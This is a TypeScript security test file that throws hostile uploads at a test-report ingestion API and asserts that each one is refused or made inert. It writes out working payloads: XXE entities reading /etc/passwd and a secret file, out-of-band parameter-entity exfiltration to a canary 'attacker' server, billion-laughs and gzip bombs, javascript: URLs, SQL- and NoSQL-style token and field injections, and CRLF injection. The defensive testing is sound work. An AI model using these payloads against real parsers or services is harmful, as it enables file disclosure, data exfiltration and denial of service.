/**
 * Hostile uploads to POST /uploads/v1/test_runs, in two files: hostile.security.test.ts (the node
 * and workerd tiers) and hostile-large.security.test.ts (the slow tier: the reports of many
 * megabytes or a hundred thousand cases, which alone take more than 30 s in workerd). Every payload must get a JSON answer that is
 * never a 5xx, and:
 * - request-level problems (token, size, media type, encoding, malformed JSON, metadata, JSON
 *   structure) get the exact 4xx code and record nothing (test_runs_count unchanged, no row);
 * - content problems of the report (DTDs and entities, malformed XML, nesting, limits) are
 *   accepted (202) and the run ends `failed` with a reason that says what was wrong, with no
 *   suite, case or payload left behind;
 * - hostile but readable content (control characters, lone surrogates, HTML, huge texts,
 *   prototype keys, retry storms) is processed and stored capped and inert.
 * Each test uploads into a project of its own, so counts are exact.
 */
import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { brotliCompressSync, brotliDecompressSync, deflateSync, gunzipSync, gzipSync, inflateSync } from "node:zlib";
import { and, asc, count, eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { projects, testCases, testRuns, testSuites, uploadPayloads } from "../../../src/db/schema";
import { REPORT_LIMITS } from "../../../src/ingest/report";
import { UPLOAD_LIMIT_BYTES } from "../../../src/ingest/upload-body";
import { ADMIN_TOKEN, type CallResult, type Harness, createHarness } from "../../support/harness";

/** The rows of PROCESSED that belong to the large part. */
const LARGE_ROWS = [
  "5 MB failure message attribute (capped)",
  "5 MB failure message as element text (capped)",
  "10 MB system-out and 10 MB CDATA system-err (capped)",
];

/** Registers the file's tests: the readable part, or the large reports; each with its own harness, organization and canary. */
export function hostileUploadTests(part: "readable" | "large") {
  // The other part's tests are not registered at all (not skipped): each file reports only its own.
  const nothing = Object.assign(() => {}, { each: () => () => {} });
  const readable = {
    describe: part === "readable" ? describe : (nothing as unknown as typeof describe),
    it: part === "readable" ? it : (nothing as unknown as typeof it),
  };
  const large = { it: part === "large" ? it : (nothing as unknown as typeof it) };
  let h: Harness;
  let organizationId: string;
  let apiKey: string;
  const projectIds: string[] = [];

  /** A local server standing in for an attacker's: no request may ever reach it. */
  let canary: Server;
  let canaryUrl: string;
  const canaryHits: string[] = [];
  const CANARY_SECRET = `canary-secret-${randomBytes(8).toString("hex")}`;

  /** A file the server can read: its content must never come out of an upload. */
  let secretDir: string;
  let secretFileUrl: string;
  const FILE_SECRET = `file-secret-${randomBytes(8).toString("hex")}`;
  const PASSWD_LINE = (() => {
    try {
      return readFileSync("/etc/passwd", "utf8").split("\n")[0]!;
    } catch {
      return "root:x:0:0:";
    }
  })();
  const SECRETS = [CANARY_SECRET, FILE_SECRET, PASSWD_LINE];

  const prototypeKeysBefore = Object.getOwnPropertyNames(Object.prototype).sort();

  beforeAll(async () => {
    h = await createHarness();
    const org = await h.newOrganization("Hostile uploads");
    organizationId = org.organization.id;
    apiKey = org.apiKey;
    canary = createServer((req, res) => {
      canaryHits.push(`${req.method} ${req.url}`);
      res.end(`<!ENTITY leak "${CANARY_SECRET}">${CANARY_SECRET}`);
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    secretDir = mkdtempSync(join(tmpdir(), "hostile-upload-"));
    const secretPath = join(secretDir, "secret.txt");
    writeFileSync(secretPath, FILE_SECRET);
    secretFileUrl = pathToFileURL(secretPath).href;
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => canary?.close(() => resolve()));
    if (secretDir) rmSync(secretDir, { recursive: true, force: true });
    await h?.close();
  });

  // ---------------------------------------------------------------------------------------------
  // Helpers

  type Fresh = { projectId: string; token: string };

  async function fresh(): Promise<Fresh> {
    const { project, uploadToken } = await h.newProject(organizationId, `hostile ${projectIds.length + 1}`);
    projectIds.push(project.id);
    return { projectId: project.id, token: uploadToken };
  }

  const enc = (text: string) => new TextEncoder().encode(text);
  const concat = (...parts: (Uint8Array | number[])[]) => {
    const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
    let offset = 0;
    for (const part of parts) {
      out.set(part, offset);
      offset += part.length;
    }
    return out;
  };
  const gzip = (data: Uint8Array | string) => new Uint8Array(gzipSync(typeof data === "string" ? enc(data) : data));
  const utf16be = (text: string) => {
    const le = Buffer.from(text, "utf16le");
    for (let i = 0; i < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1]!, le[i]!];
    return new Uint8Array(le);
  };

  /** A one-case report around some inner XML of the case. */
  const oneCase = (inner = "", attributes = 'name="a"') => `<testsuite name="s"><testcase ${attributes}>${inner}</testcase></testsuite>`;

  function manyCases(n: number, suite = "big") {
    const parts = [`<testsuite name="${suite}">`];
    for (let i = 0; i < n; i++) parts.push(`<testcase classname="c" name="t${i}" time="0.001"/>`);
    parts.push("</testsuite>");
    return parts.join("");
  }

  /** A ReadableStream of `total` bytes in 1 MiB chunks, sent chunked (no Content-Length). */
  function chunkedBody(total: number): ReadableStream<Uint8Array> {
    const chunk = new Uint8Array(1024 * 1024).fill(0x20);
    let sent = 0;
    return new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= total) return controller.close();
        const size = Math.min(chunk.length, total - sent);
        sent += size;
        controller.enqueue(size === chunk.length ? chunk : chunk.subarray(0, size));
      },
    });
  }

  function expectJsonAnswer(res: CallResult) {
    expect(res.status, res.text.slice(0, 500)).toBeLessThan(500);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(() => JSON.parse(res.text)).not.toThrow();
    for (const secret of SECRETS) expect(res.text).not.toContain(secret);
  }

  async function projectCount(projectId: string) {
    const [row] = await h.db.select({ testRunsCount: projects.testRunsCount }).from(projects).where(eq(projects.id, projectId));
    return row!.testRunsCount;
  }

  /** The exact 4xx envelope, and nothing recorded for the project. */
  async function expectRejected(p: Fresh, res: CallResult, status: number, code: string, runsBefore = 0) {
    expectJsonAnswer(res);
    expect(res.status, res.text.slice(0, 500)).toBe(status);
    expect(Object.keys(res.body)).toEqual(["error"]);
    expect(res.body.error.code).toBe(code);
    expect(res.body.error.message).toBeTypeOf("string");
    expect(res.body.error.message.length).toBeGreaterThan(0);
    expect(await projectCount(p.projectId)).toBe(runsBefore);
    expect(await h.db.select({ id: testRuns.id }).from(testRuns).where(eq(testRuns.projectId, p.projectId))).toHaveLength(runsBefore);
  }

  async function rowCount(table: typeof testSuites | typeof testCases | typeof uploadPayloads, runId: number) {
    const [row] = await h.db.select({ n: count() }).from(table).where(eq(table.testRunId, runId));
    return row!.n;
  }

  /**
   * 202, then waits for the run to leave `pending`. Polls the database (the upload token's GET
   * counts against the project's upload rate limit), then reads the run once through the API.
   */
  async function accepted(p: Fresh, res: CallResult, timeoutMs = 60_000) {
    expectJsonAnswer(res);
    expect(res.status, res.text.slice(0, 500)).toBe(202);
    expect(res.body.status).toBe("pending");
    expect(res.headers.get("location")).toBe(res.body.api_url);
    const number = res.body.number as number;
    const deadline = Date.now() + timeoutMs;
    let row: typeof testRuns.$inferSelect | undefined;
    for (;;) {
      [row] = await h.db
        .select()
        .from(testRuns)
        .where(and(eq(testRuns.projectId, p.projectId), eq(testRuns.number, number)));
      if (row && row.status !== "pending") break;
      if (Date.now() > deadline) throw new Error(`run ${number} is still pending after ${timeoutMs} ms`);
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    const read = await h.get(`/uploads/v1/test_runs/${number}`, p.token);
    expectJsonAnswer(read);
    expect(read.status).toBe(200);
    expect(await rowCount(uploadPayloads, row!.id)).toBe(0);
    expect(await projectCount(p.projectId)).toBe(number);
    return { run: read.body, row: row!, number };
  }

  async function expectFailed(p: Fresh, res: CallResult, reason: string | RegExp) {
    const { run, row } = await accepted(p, res);
    expect(run.status, JSON.stringify(run)).toBe("failed");
    if (typeof reason === "string") expect(run.failure_reason).toContain(reason);
    else expect(run.failure_reason).toMatch(reason);
    for (const secret of SECRETS) expect(run.failure_reason).not.toContain(secret);
    expect(run.result).toBeNull();
    expect(run.tests_count).toBe(0);
    expect(await rowCount(testSuites, row.id)).toBe(0);
    expect(await rowCount(testCases, row.id)).toBe(0);
    return run;
  }

  type Processed = Awaited<ReturnType<typeof expectProcessed>>;

  async function expectProcessed(p: Fresh, res: CallResult, timeoutMs?: number) {
    const { run, row, number } = await accepted(p, res, timeoutMs);
    expect(run.status, run.failure_reason).toBe("processed");
    expect(run.failure_reason).toBeNull();
    const suites = await h.db.select().from(testSuites).where(eq(testSuites.testRunId, row.id)).orderBy(asc(testSuites.number));
    const cases = await h.db.select().from(testCases).where(eq(testCases.testRunId, row.id)).orderBy(asc(testCases.id));
    return { p, run, row, number, suites, cases };
  }

  /** The cases of a run's first suite as /api/v1 returns them. */
  async function apiCases(r: Processed, suiteNumber = 1) {
    const res = await h.get(`/api/v1/projects/${r.p.projectId}/test_runs/${r.number}/test_suites/${suiteNumber}/test_cases`, apiKey);
    expectJsonAnswer(res);
    expect(res.status).toBe(200);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    return res;
  }

  // ---------------------------------------------------------------------------------------------
  // Request-level problems: exact 4xx, nothing recorded.

  type Upload = { body: () => unknown; contentType?: string; query?: string; headers?: Record<string, string> };
  type Rejection = Upload & { name: string; status: number; code: string; field?: string };

  /** Whether a body passes the server's limits: its bytes as sent, or, gzip-compressed, its report once inflated. */
  function overLimit(u: Upload): boolean {
    const body = u.body();
    const bytes = typeof body === "string" ? enc(body) : body instanceof Uint8Array ? body : enc(JSON.stringify(body));
    if (bytes.length > h.uploadLimitBytes) return true;
    const encoding = Object.entries(u.headers ?? {}).find(([name]) => name.toLowerCase() === "content-encoding")?.[1];
    const inflate =
      encoding === "gzip" ? gunzipSync : encoding === "deflate" ? inflateSync : encoding === "br" ? brotliDecompressSync : null;
    return inflate !== null && inflate(bytes).length > (encoding === "gzip" ? h.inflatedLimitBytes : h.uploadLimitBytes);
  }

  /**
   * A body over this server's limits (the Worker's body limit, from wrangler.toml, may be below the
   * interface's 32 MiB) is a 413 with nothing recorded; then the row's processing cannot be checked
   * here. Returns whether it was.
   */
  async function refusedOverLimit(p: Fresh, over: boolean, res: CallResult): Promise<boolean> {
    if (!over) return false;
    expect(res.status, res.text.slice(0, 300)).toBe(413);
    expect(res.body.error.code).toBe("payload_too_large");
    expect(await h.db.select().from(testRuns).where(eq(testRuns.projectId, p.projectId))).toHaveLength(0);
    return true;
  }

  const send = (p: Fresh, u: Upload) => h.upload(p.token, u.body(), { contentType: u.contentType, query: u.query, headers: u.headers });
  const xml = '<testsuite name="s"><testcase name="a"/></testsuite>';
  const deepSuites = (levels: number) => {
    let suite: Record<string, unknown> = { name: "leaf", cases: [{ name: "c", status: "passed", attempts: [{ status: "failed" }] }] };
    for (let i = 1; i < levels; i++) suite = { name: `level ${levels - i}`, suites: [suite] };
    return suite;
  };

  const REJECTED: Rejection[] = [
    // Bodies that are not text in their encoding (400).
    {
      name: "invalid UTF-8 bytes in XML",
      body: () => concat(enc('<testsuite name="'), [0xc3, 0x28, 0xff], enc('"/>')),
      status: 400,
      code: "invalid_request",
    },
    {
      name: "overlong UTF-8 encoding of '<'",
      body: () => concat([0xc0, 0xbc], enc('testsuite name="s"/>')),
      status: 400,
      code: "invalid_request",
    },
    {
      name: "UTF-8-encoded lone surrogate (CESU)",
      body: () => concat(enc('<testsuite name="'), [0xed, 0xa0, 0x80], enc('"/>')),
      status: 400,
      code: "invalid_request",
    },
    {
      name: "invalid UTF-8 bytes in JSON",
      body: () => concat(enc('{"suites":[{"name":"'), [0xfe, 0xff], enc('"}]}')),
      contentType: "application/json",
      status: 400,
      code: "invalid_request",
    },
    {
      name: "UTF-16 with BOM and a lone surrogate",
      body: () => concat([0xff, 0xfe], Buffer.from("<t", "utf16le"), [0x00, 0xd8], Buffer.from("/>", "utf16le")),
      status: 400,
      code: "invalid_request",
    },
    // Empty and non-object bodies (400).
    { name: "empty XML body", body: () => "", status: 400, code: "invalid_request" },
    { name: "empty JSON body", body: () => "", contentType: "application/json", status: 400, code: "invalid_request" },
    { name: "gzip of nothing", body: () => gzip(""), headers: { "content-encoding": "gzip" }, status: 400, code: "invalid_request" },
    { name: "JSON array body", body: () => "[]", contentType: "application/json", status: 400, code: "invalid_request" },
    { name: "JSON number body", body: () => "42", contentType: "application/json", status: 400, code: "invalid_request" },
    { name: "JSON string body", body: () => '"<testsuite/>"', contentType: "application/json", status: 400, code: "invalid_request" },
    { name: "JSON null body", body: () => "null", contentType: "application/json", status: 400, code: "invalid_request" },
    {
      name: "malformed (truncated) JSON",
      body: () => '{"suites":[{"name":"s"',
      contentType: "application/json",
      status: 400,
      code: "invalid_request",
    },
    {
      name: "raw NUL byte in JSON",
      body: () => '{"suites":[{"name":"a\u0000b"}]}',
      contentType: "application/json",
      status: 400,
      code: "invalid_request",
    },
    { name: "XML sent as application/json", body: () => xml, contentType: "application/json", status: 400, code: "invalid_request" },
    // Compression (400/415).
    {
      name: "invalid gzip",
      body: () => enc("this is not gzip at all"),
      headers: { "content-encoding": "gzip" },
      status: 400,
      code: "invalid_request",
    },
    {
      name: "truncated gzip",
      body: () => gzip(xml).subarray(0, 15),
      headers: { "content-encoding": "gzip" },
      status: 400,
      code: "invalid_request",
    },
    {
      name: "Content-Encoding: br",
      body: () => new Uint8Array(brotliCompressSync(enc(xml))),
      headers: { "content-encoding": "br" },
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "Content-Encoding: deflate",
      body: () => new Uint8Array(deflateSync(enc(xml))),
      headers: { "content-encoding": "deflate" },
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "Content-Encoding: compress",
      body: () => enc(xml),
      headers: { "content-encoding": "compress" },
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "stacked Content-Encoding: gzip, gzip",
      body: () => gzip(gzip(xml)),
      headers: { "content-encoding": "gzip, gzip" },
      status: 415,
      code: "unsupported_media_type",
    },
    // Media types (415).
    { name: "Content-Type text/plain", body: () => xml, contentType: "text/plain", status: 415, code: "unsupported_media_type" },
    {
      name: "Content-Type multipart/form-data",
      body: () => `--x\r\nContent-Disposition: form-data; name="file"; filename="r.xml"\r\n\r\n${xml}\r\n--x--\r\n`,
      contentType: "multipart/form-data; boundary=x",
      status: 415,
      code: "unsupported_media_type",
    },
    { name: "no Content-Type at all", body: () => enc(xml), contentType: "", status: 415, code: "unsupported_media_type" },
    {
      name: "Content-Type application/x-www-form-urlencoded",
      body: () => "junit_xml=%3Ctestsuite%2F%3E",
      contentType: "application/x-www-form-urlencoded",
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "Content-Type text/html",
      body: () => "<html><script>alert(1)</script></html>",
      contentType: "text/html",
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "Content-Type application/xml-dtd",
      body: () => '<!ENTITY x SYSTEM "file:///etc/passwd">',
      contentType: "application/xml-dtd",
      status: 415,
      code: "unsupported_media_type",
    },
    // XML encodings that cannot be decoded (415).
    {
      name: "unknown declared encoding",
      body: () => `<?xml version="1.0" encoding="x-klingon"?>${xml}`,
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "UTF-7 declared (XSS vector)",
      body: () => `<?xml version="1.0" encoding="utf-7"?>+ADw-testsuite/+AD4-`,
      status: 415,
      code: "unsupported_media_type",
    },
    {
      name: "ISO-2022-KR declared (WHATWG replacement encoding)",
      body: () => `<?xml version="1.0" encoding="iso-2022-kr"?>${xml}`,
      status: 415,
      code: "unsupported_media_type",
    },
    // Size (413).
    {
      name: "oversize body with Content-Length",
      body: () => new Uint8Array(UPLOAD_LIMIT_BYTES + 1).fill(0x20),
      headers: { "content-length": String(UPLOAD_LIMIT_BYTES + 1) },
      status: 413,
      code: "payload_too_large",
    },
    {
      name: "oversize chunked body (ReadableStream, no Content-Length)",
      body: () => chunkedBody(UPLOAD_LIMIT_BYTES + 2 * 1024 * 1024),
      status: 413,
      code: "payload_too_large",
    },
    {
      name: "gzip bomb (past the server's limit once inflated)",
      body: () => {
        // Members of 1 MiB of spaces, one after another: a gzip body that inflates past the limit
        // (32 MiB, or the Worker's 256 MiB), made without holding it inflated.
        const member = gzip(new Uint8Array(1024 * 1024).fill(0x20));
        const bomb = concat(...Array.from({ length: Math.floor(h.inflatedLimitBytes / (1024 * 1024)) + 1 }, () => member));
        expect(bomb.byteLength).toBeLessThan(1024 * 1024);
        return bomb;
      },
      headers: { "content-encoding": "gzip" },
      status: 413,
      code: "payload_too_large",
    },
    // JSON structure (422).
    {
      name: "JSON with neither junit_xml nor suites",
      body: () => ({ branch: "main" }),
      status: 422,
      code: "validation_failed",
      field: "suites",
    },
    {
      name: "JSON suites nested 1,000 deep",
      body: () => ({ suites: [deepSuites(1000)] }),
      status: 422,
      code: "validation_failed",
      field: "suites",
    },
    {
      name: "JSON suites nested one level past the limit",
      body: () => ({ suites: [deepSuites(REPORT_LIMITS.maxDepth + 1)] }),
      status: 422,
      code: "validation_failed",
      field: "suites",
    },
    {
      name: "JSON arrays nested 100,000 deep in an unknown key",
      body: () => `{"suites":[],"x":${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
      contentType: "application/json",
      status: 422,
      code: "validation_failed",
      field: "suites",
    },
    { name: "suites is an object", body: () => ({ suites: { name: "s" } }), status: 422, code: "validation_failed", field: "suites" },
    { name: "junit_xml is an empty array", body: () => ({ junit_xml: [] }), status: 422, code: "validation_failed", field: "junit_xml" },
    {
      name: "junit_xml has 50,001 documents",
      body: () => ({ junit_xml: Array.from({ length: 50_001 }, () => "<testsuite/>") }),
      status: 422,
      code: "validation_failed",
      field: "junit_xml",
    },
    { name: "junit_xml is a number", body: () => ({ junit_xml: 1 }), status: 422, code: "validation_failed", field: "junit_xml" },
    {
      name: "case status outside the enum",
      body: () => ({ suites: [{ name: "s", cases: [{ name: "c", status: "pwned" }] }] }),
      status: 422,
      code: "validation_failed",
      field: "suites.0.cases.0.status",
    },
    {
      name: "attempt status outside the enum",
      body: () => ({
        suites: [{ name: "s", cases: [{ name: "c", status: "passed", attempts: [{ status: "passed" }, { status: "retried" }] }] }],
      }),
      status: 422,
      code: "validation_failed",
      field: "suites.0.cases.0.attempts.1.status",
    },
    {
      name: "duration_ms overflowing to Infinity (1e400)",
      body: () => '{"duration_ms":1e400,"suites":[]}',
      contentType: "application/json",
      status: 422,
      code: "validation_failed",
      field: "duration_ms",
    },
    {
      name: "negative duration_ms",
      body: () => ({ suites: [{ name: "s", duration_ms: -1 }] }),
      status: 422,
      code: "validation_failed",
      field: "suites.0.duration_ms",
    },
    {
      name: "empty case name",
      body: () => ({ suites: [{ name: "s", cases: [{ name: "", status: "passed" }] }] }),
      status: 422,
      code: "validation_failed",
      field: "suites.0.cases.0.name",
    },
    {
      name: "suite name is an array",
      body: () => ({ suites: [{ name: ["a", "b"] }] }),
      status: 422,
      code: "validation_failed",
      field: "suites.0.name",
    },
    // Metadata (422).
    {
      name: "build_url javascript:alert(1) (query)",
      body: () => xml,
      query: "build_url=javascript:alert(1)",
      status: 422,
      code: "validation_failed",
      field: "build_url",
    },
    {
      name: "build_url javascript:alert(1) (JSON)",
      body: () => ({ build_url: "javascript:alert(1)", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "build_url",
    },
    {
      name: "build_url data: URL",
      body: () => ({ build_url: "data:text/html,<script>alert(1)</script>", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "build_url",
    },
    {
      name: "build_url file:///etc/passwd",
      body: () => xml,
      query: "build_url=file:///etc/passwd",
      status: 422,
      code: "validation_failed",
      field: "build_url",
    },
    {
      name: "started_at not RFC 3339",
      body: () => xml,
      query: "started_at=yesterday",
      status: 422,
      code: "validation_failed",
      field: "started_at",
    },
    {
      name: "started_at without a time zone",
      body: () => ({ started_at: "2026-01-01T10:00:00", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "started_at",
    },
    {
      name: "started_at out of range",
      body: () => ({ started_at: "2026-13-45T99:00:00Z", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "started_at",
    },
    {
      name: "started_at in the year 0000",
      body: () => ({ started_at: "0000-06-01T00:00:00Z", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "started_at",
    },
    {
      name: "started_at in the year 0000, in the query string",
      body: () => xml,
      query: "started_at=0000-06-01T00:00:00Z",
      status: 422,
      code: "validation_failed",
      field: "started_at",
    },
    {
      name: "branch of 256 characters",
      body: () => xml,
      query: `branch=${"b".repeat(256)}`,
      status: 422,
      code: "validation_failed",
      field: "branch",
    },
    {
      name: "ANSI escape in branch (query)",
      body: () => xml,
      query: "branch=main%1B%5B31m",
      status: 422,
      code: "validation_failed",
      field: "branch",
    },
    {
      name: "NUL in branch (JSON)",
      body: () => ({ branch: "main\u0000evil", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "branch",
    },
    {
      name: "CRLF header/log injection in branch",
      body: () => ({ branch: "main\r\nX-Injected: 1", suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "branch",
    },
    {
      name: "commit_sha of 65 characters",
      body: () => ({ commit_sha: "a".repeat(65), suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "commit_sha",
    },
    {
      name: "51 tags (query, comma-separated)",
      body: () => xml,
      query: `tags=${Array.from({ length: 51 }, (_, i) => `t${i}`).join(",")}`,
      status: 422,
      code: "validation_failed",
      field: "tags",
    },
    {
      name: "51 tags (JSON)",
      body: () => ({ tags: Array.from({ length: 51 }, (_, i) => `t${i}`), suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "tags",
    },
    {
      name: "tag of 101 characters",
      body: () => ({ tags: ["t".repeat(101)], suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "tags.0",
    },
    {
      name: "control character in a tag",
      body: () => ({ tags: ["ok", "bad\u0007bell"], suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "tags.1",
    },
    {
      name: "branch as an operator object ({$ne: null})",
      body: () => ({ branch: { $ne: null }, suites: [] }),
      status: 422,
      code: "validation_failed",
      field: "branch",
    },
  ];

  readable.describe("request-level problems: exact 4xx, nothing recorded", () => {
    it.each(REJECTED)("$name → $status $code", async (row) => {
      const p = await fresh();
      const res = await send(p, row);
      await expectRejected(p, res, row.status, row.code);
      if (row.field) expect(res.body.error.details.map((d: { field: string }) => d.field)).toContain(row.field);
    });
  });

  // ---------------------------------------------------------------------------------------------
  // Token attacks: 401 before anything is read, nothing recorded.

  type TokenAttack = {
    name: string;
    headers: (f: { token: string; apiKey: string }) => Record<string, string>;
    query?: (token: string) => string;
  };

  const TOKEN_ATTACKS: TokenAttack[] = [
    { name: "the organization's API key as upload token", headers: (f) => ({ authorization: `Bearer ${f.apiKey}` }) },
    { name: "the admin token as upload token", headers: () => ({ authorization: `Bearer ${ADMIN_TOKEN}` }) },
    { name: "no Authorization header", headers: () => ({}) },
    {
      name: "token in the query string instead of the header",
      headers: () => ({}),
      query: (token) => `token=${token}&upload_token=${token}`,
    },
    { name: "Basic scheme with the token", headers: (f) => ({ authorization: `Basic ${btoa(`${f.token}:`)}` }) },
    { name: "garbage bearer token", headers: () => ({ authorization: "Bearer ' OR 1=1 --" }) },
    {
      name: "well-prefixed token with a bad checksum",
      headers: (f) => ({ authorization: `Bearer ${f.token.slice(0, -1)}${f.token.endsWith("A") ? "B" : "A"}` }),
    },
    { name: "token followed by extra words", headers: (f) => ({ authorization: `Bearer ${f.token} ${f.token}` }) },
    { name: "the upload token re-prefixed as an API key (cta_)", headers: (f) => ({ authorization: `Bearer cta_${f.token.slice(4)}` }) },
  ];

  readable.describe("token attacks: 401, nothing recorded", () => {
    it.each(TOKEN_ATTACKS)("$name", async (attack) => {
      const p = await fresh();
      const res = await h.upload(null, xml, { headers: attack.headers({ token: p.token, apiKey }), query: attack.query?.(p.token) });
      await expectRejected(p, res, 401, "unauthorized");
      expect(res.headers.get("www-authenticate")).toMatch(/^Bearer/);
    });

    it("a wrong token is refused before the body is read (a 33 MiB body is a 401, not a 413)", async () => {
      const p = await fresh();
      const res = await h.upload(
        `${p.token.slice(0, -1)}${p.token.endsWith("A") ? "B" : "A"}`,
        chunkedBody(UPLOAD_LIMIT_BYTES + 1024 * 1024),
        { contentType: "text/plain" },
      );
      await expectRejected(p, res, 401, "unauthorized");
    });

    it("the upload token opens nothing in /api/v1", async () => {
      const p = await fresh();
      for (const path of ["/api/v1/projects", `/api/v1/projects/${p.projectId}`, `/api/v1/projects/${p.projectId}/test_runs`]) {
        const res = await h.get(path, p.token);
        expectJsonAnswer(res);
        expect(res.status, path).toBe(401);
        expect(res.body.error.code).toBe("unauthorized");
      }
      const patch = await h.patch(`/api/v1/projects/${p.projectId}`, p.token, { name: "owned" });
      expect(patch.status).toBe(401);
      expect(await projectCount(p.projectId)).toBe(0);
    });

    it("a regenerated upload token is refused at once; the new one works", async () => {
      const p = await fresh();
      const regenerated = await h.admin("POST", `/projects/${p.projectId}/upload_token/regenerate`);
      expect(regenerated.status, regenerated.text).toBe(200);
      const newToken = regenerated.body.upload_token as string;
      expect(newToken).not.toBe(p.token);
      await expectRejected(p, await h.upload(p.token, xml), 401, "unauthorized");
      const read = await h.get("/uploads/v1/test_runs/1", p.token);
      expect(read.status).toBe(401);
      await expectProcessed({ projectId: p.projectId, token: newToken }, await h.upload(newToken, xml));
      // …and still refused after the new token has been used.
      await expectRejected(p, await h.upload(p.token, xml), 401, "unauthorized", 1);
    });
  });

  // ---------------------------------------------------------------------------------------------
  // Content problems: 202, then `failed` with a reason; nothing of the report kept.

  type FailedUpload = Upload & { name: string; reason: string | RegExp };

  const NO_DTD = "document type declaration";
  const NOT_WELL_FORMED = "The XML is not well-formed";
  const TOO_DEEP = `nested deeper than ${REPORT_LIMITS.maxDepth} levels`;

  const billionLaughs = () => {
    const entities = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    return `<?xml version="1.0"?>\n<!DOCTYPE testsuite [\n${entities.join("\n")}\n]>\n<testsuite name="&lol9;"><testcase name="&lol9;"><failure message="&lol9;">&lol9;</failure></testcase></testsuite>`;
  };

  const numericEntityBomb = () => {
    const entities = [`<!ENTITY n0 "${"&#x41;&#38;#38;".repeat(2_000)}">`];
    for (let i = 1; i <= 6; i++) entities.push(`<!ENTITY n${i} "${`&n${i - 1};`.repeat(10)}">`);
    return `<!DOCTYPE testsuite [${entities.join("")}]><testsuite name="s"><testcase name="&n6;"/></testsuite>`;
  };

  const quadraticBlowup = () =>
    `<!DOCTYPE testsuite [<!ENTITY a "${"A".repeat(100_000)}">]><testsuite name="s"><testcase name="a"><failure message="${"&a;".repeat(20_000)}"/></testcase></testsuite>`;

  const FAILED: FailedUpload[] = [
    { name: "billion laughs", body: billionLaughs, reason: NO_DTD },
    { name: "numeric-entity bomb", body: numericEntityBomb, reason: NO_DTD },
    { name: "quadratic blowup (one big entity referenced 20,000 times)", body: quadraticBlowup, reason: NO_DTD },
    {
      name: "external entities: /etc/passwd and a local secret file",
      body: () =>
        `<?xml version="1.0"?><!DOCTYPE testsuite [<!ENTITY passwd SYSTEM "file:///etc/passwd"><!ENTITY secret SYSTEM "${secretFileUrl}">]>` +
        oneCase(
          `<failure message="&passwd;">&secret;</failure><system-out>&passwd;&secret;</system-out>`,
          'name="&passwd;" classname="&secret;"',
        ),
      reason: NO_DTD,
    },
    {
      name: "external entity over http",
      body: () =>
        `<!DOCTYPE testsuite [<!ENTITY leak SYSTEM "${canaryUrl}/entity">]>${oneCase("<failure>&leak;</failure>", 'name="&leak;"')}`,
      reason: NO_DTD,
    },
    { name: "external DTD over http", body: () => `<!DOCTYPE testsuite SYSTEM "${canaryUrl}/evil.dtd">${oneCase()}`, reason: NO_DTD },
    {
      name: "public DTD identifier",
      body: () => `<!DOCTYPE testsuite PUBLIC "-//EVIL//DTD//EN" "${canaryUrl}/public.dtd">${oneCase()}`,
      reason: NO_DTD,
    },
    {
      name: "parameter-entity out-of-band exfiltration",
      body: () =>
        `<!DOCTYPE testsuite [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${canaryUrl}/oob.dtd">%dtd;]>${oneCase()}`,
      reason: NO_DTD,
    },
    { name: "DOCTYPE alone", body: () => `<!DOCTYPE testsuite>${oneCase()}`, reason: NO_DTD },
    { name: "DOCTYPE in a JSON envelope's junit_xml", body: () => ({ junit_xml: [xml, billionLaughs()] }), reason: NO_DTD },
    { name: "undefined entity without a DTD", body: () => oneCase("", 'name="&xxe;"'), reason: NOT_WELL_FORMED },
    {
      name: "10,000-deep element nesting inside a case",
      body: () => oneCase(`${"<x>".repeat(10_000)}${"</x>".repeat(10_000)}`),
      reason: TOO_DEEP,
    },
    {
      name: "10,000-deep <testsuites> nesting",
      body: () => `${"<testsuites>".repeat(10_000)}${"</testsuites>".repeat(10_000)}`,
      reason: TOO_DEEP,
    },
    {
      name: "100-deep suites",
      body: () =>
        `${Array.from({ length: 100 }, (_, i) => `<testsuite name="s${i}">`).join("")}<testcase name="a"/>${"</testsuite>".repeat(100)}`,
      reason: TOO_DEEP,
    },
    { name: "unclosed tags", body: () => '<testsuite name="s"><testcase name="a">', reason: NOT_WELL_FORMED },
    { name: "text after the root", body: () => `${xml}trailing text`, reason: NOT_WELL_FORMED },
    { name: "two roots", body: () => `${xml}${xml}`, reason: NOT_WELL_FORMED },
    { name: "mismatched tags", body: () => '<testsuite name="s"><testcase name="a"></testsuite></testcase>', reason: NOT_WELL_FORMED },
    { name: "unquoted attribute", body: () => "<testsuite name=s><testcase name=a/></testsuite>", reason: NOT_WELL_FORMED },
